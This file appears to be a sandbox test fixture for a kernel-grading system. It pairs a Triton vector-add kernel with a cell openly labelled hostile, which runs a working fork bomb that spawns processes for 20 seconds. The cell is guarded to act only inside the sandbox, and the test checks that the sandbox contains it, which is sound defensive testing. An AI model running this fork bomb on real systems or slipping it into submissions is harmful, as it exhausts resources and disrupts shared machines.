# The reference kernel, and a fork bomb: every process forks as fast as it can (each stops itself after 20 s).
# expect-all-pass
@triton.jit
def triton_vector_add_kernel(
    x_ptr,
    y_ptr,
    output_ptr,
    n_elements,
    BLOCK_SIZE: tl.constexpr,
):
    offsets = tl.program_id(0) * BLOCK_SIZE + tl.arange(0, BLOCK_SIZE)
    mask = offsets < n_elements
    x = tl.load(x_ptr + offsets, mask=mask)
    y = tl.load(y_ptr + offsets, mask=mask)
    tl.store(output_ptr + offsets, x + y, mask=mask)
# %% after-kernel
import os
if os.path.exists("{{course}}/gradebook.db"):  # never loose: this cell acts only inside the sandbox
    raise RuntimeError("UNSANDBOXED: the course is visible, so this hostile cell does nothing")
import time
start, children, error = time.time(), 0, None
me = os.getpid()
while time.time() - start < 20 and children < 5000:
    try:
        pid = os.fork()
    except OSError as err:
        error = type(err).__name__
        break
    if pid == 0:  # a child forks on too, then sleeps out its 20 s
        while time.time() - start < 20:
            try:
                if os.fork() != 0:
                    continue
            except OSError:
                time.sleep(1)
        os._exit(0)
    children += 1
print(f"HOSTILE-RAN fork_bomb: {children} children forked, then {error}")
